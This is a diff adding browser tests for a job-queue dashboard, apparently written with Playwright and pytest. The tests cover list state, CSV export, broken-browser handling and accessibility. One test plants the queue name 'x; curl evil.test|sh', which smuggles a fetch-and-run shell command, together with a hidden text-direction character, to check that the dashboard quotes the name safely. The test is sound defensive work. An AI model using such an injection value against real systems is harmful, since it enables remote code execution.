@@ -1,0 +1,175 @@
+"""What is easily lost: the place in a list, a file that was asked for, a browser that is broken."""
+
+import csv
+import io
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import expect
+
+from support import browser as browsers
+from support import hostile
+from support.browser import PLACES
+from support.sample import dead_id, job_id
+
+UNSEEN = "\u202e"
+
+
+def test_the_place_in_a_list_outlives_what_is_opened_over_it(site, screen):
+    shown = screen(site(), "jobs")
+    page = shown.page
+    newest = shown.rows().first.get_by_role("link").first.get_attribute("href")
+    page.get_by_role("button", name="Older").click()
+    page.get_by_text("Page 2").wait_for()
+    shown.settle()
+    shown.rows().first.get_by_role("link").first.click()
+    page.get_by_role("dialog", name="Job").wait_for()
+    page.keyboard.press("Escape")
+    page.get_by_role("dialog", name="Job").wait_for(state="detached")
+    assert page.get_by_text("Page 2").is_visible()
+    page.get_by_role("button", name="Newer").click()
+    expect(shown.rows().first.get_by_role("link").first).to_have_attribute("href", newest)
+    assert page.get_by_role("button", name="Newest").is_disabled()
+
+
+def test_a_link_to_an_older_page_leads_to_the_newest(site, screen):
+    shown = screen(site(), "jobs")
+    shown.page.get_by_role("button", name="Older").click()
+    shown.page.wait_for_url(lambda url: "cursor" in url)
+    other = shown.page.context.new_page()
+    other.goto(shown.page.url)
+    other.get_by_role("button", name="Newest").click()
+    other.wait_for_url(lambda url: "cursor" not in url)
+    other.close()
+
+
+OVER_TYPES = """(job) => {
+    history.pushState({ over: 'types?sort=Queued' }, '', 'jobs/' + job);
+    dispatchEvent(new PopStateEvent('popstate'));
+}"""
+
+
+def test_the_order_of_a_list_outlives_what_is_opened_over_it(site, screen):
+    shown = screen(site(), "types?sort=Queued")
+    head = shown.page.locator("main th[aria-sort]")
+    before = (head.inner_text(), head.get_attribute("aria-sort"))
+    shown.page.evaluate(OVER_TYPES, job_id(1))
+    shown.page.get_by_role("dialog", name="Job").wait_for()
+    assert (head.inner_text(), head.get_attribute("aria-sort")) == before
+    assert before[1] in ("ascending", "descending")
+
+
+def test_jobs_are_exported_as_a_file(site, screen):
+    here = site()
+    shown = screen(here, "jobs?filter=status:dead")
+    shown.page.locator("summary").filter(has_text="Export").click()
+    with shown.page.expect_download() as coming:
+        shown.page.get_by_role("link", name="CSV").click()
+    file = coming.value
+    assert file.suggested_filename.endswith(".csv")
+    with open(file.path(), newline="", encoding="utf-8-sig") as text:
+        rows = list(csv.DictReader(io.StringIO(text.read())))
+    dead = here.database.value("SELECT count(*) FROM soniq_dead_letter_jobs")
+    assert len(rows) == dead > 0 and {row["status"] for row in rows} == {"dead_letter"}
+
+
+def test_a_verdict_leads_to_its_rows(site, screen):
+    here = site()
+    here.database.execute("UPDATE soniq_workers SET status = 'stopped'")
+    shown = screen(here)
+    verdict = shown.page.locator(".verdict-bad").first
+    verdict.get_by_role("link", name="Show").click()
+    shown.page.get_by_role("heading", name="Jobs", level=1).wait_for()
+    shown.rows().first.wait_for()
+    assert "status%3Aready" in shown.page.url
+
+
+BROKEN = """
+for (const name of ['localStorage', 'sessionStorage'])
+    Object.defineProperty(window, name, {
+        get() { throw new DOMException('no', 'SecurityError'); },
+    });
+const now = Date.now;
+Date.now = () => now() + 10 * 365 * 86400 * 1000;
+Intl.DateTimeFormat.prototype.resolvedOptions = () => ({ timeZone: 'No/Where', locale: 'xx' });
+"""
+
+
+def test_a_broken_browser_sees_all_of_it(site, screen, context):
+    """No storage, a clock that is ten years ahead, a zone that there is not."""
+    context.add_init_script(BROKEN)
+    shown = screen(site())
+    for place in [*PLACES, f"jobs/{job_id(1)}"]:
+        shown.open(place)
+        assert shown.page.locator("main h1").first.inner_text() != "", place
+    # Ages go by the server's clock.
+    shown.open("workers")
+    assert "10 y" not in shown.page.locator("main").inner_text()
+
+
+def test_what_is_on_screen_is_greyed_when_it_is_old(site, screen):
+    here = site()
+    shown = screen(here, "queues")
+    shown.rows().first.wait_for()
+    assert shown.page.locator(".shown-stale").count() == 0
+    here.dashboard.stop()
+    shown.page.locator(".banner").wait_for()
+    shown.page.locator(".shown-stale").first.wait_for()
+
+
+def test_a_queue_that_is_named_like_a_command_is_one_word(site, screen):
+    here = site()
+    name = "x; curl evil.test|sh " + UNSEEN
+    here.database.execute("UPDATE soniq_jobs SET queue = %s WHERE id = %s", name, job_id(4))
+    here.database.execute("UPDATE soniq_workers SET status = 'stopped'")
+    shown = screen(here, "queues")
+    shown.row_of("curl evil.test").first.get_by_role("link").first.click()
+    command = shown.page.locator("main pre.command").inner_text()
+    assert command == r"soniq worker --queues $'x; curl evil.test|sh \u202e'"
+
+
+@pytest.mark.parametrize("kind", ("postgresql", "sqlite"))
+def test_nothing_hides_what_rows_hold(site, screen, samples, kind):
+    """What turns the direction of writing is written as its number, in whatever it stands."""
+    database = samples.copy(kind)
+    mark = "%s" if kind == "postgresql" else "?"
+    database.execute(f"UPDATE soniq_dead_letter_jobs SET queue = {mark}", f"a{UNSEEN}b")
+    shown = screen(site(database=database, write=True), "dead-letter?view=list")
+    page = shown.page
+    shown.rows().first.get_by_role("button", name="Replay").click(force=True)
+    page.locator("dialog").get_by_text("is enqueued").wait_for()
+    assert UNSEEN not in page.locator("dialog").inner_text()
+    page.keyboard.press("Escape")
+    (hostile.fill if kind == "postgresql" else hostile.fill_sqlite)(database)
+    for width in (1280, 360):
+        page.set_viewport_size({"width": width, "height": 800})
+        for place in [*PLACES, "dead-letter?view=list"]:
+            shown.open(place)
+            assert UNSEEN not in page.locator("body").inner_text(), place
+
+
+@pytest.mark.parametrize("theme", ("light", "dark"))
+def test_axe_finds_nothing_where_nothing_is_shown(site, browser, theme):
+    here = site(key="the right key of this test")
+    context = browser.new_context(bypass_csp=True, color_scheme=theme, reduced_motion="reduce")
+    shown = browsers.Screen(context, here.base)
+    page = shown.page
+    shown.open("", ready=False)
+    page.get_by_label("API key").wait_for()
+    check(page, "signing in")
+    page.get_by_label("API key").fill(here.key)
+    page.get_by_role("button", name="Sign in").click()
+    shown.settle()
+    for place in ("nothing", "jobs?filter=queue:nothing", "queues/nothing", f"jobs/{dead_id(999)}"):
+        shown.open(place)
+        check(page, place)
+    shown.open("jobs")
+    here.dashboard.stop()
+    page.locator(".banner").wait_for()
+    check(page, "the server gone")
+    context.close()
+
+
+def check(page, what: str) -> None:
+    found = Axe().run(page)
+    assert found.violations_count == 0, f"{what}: {found.generate_report()}"
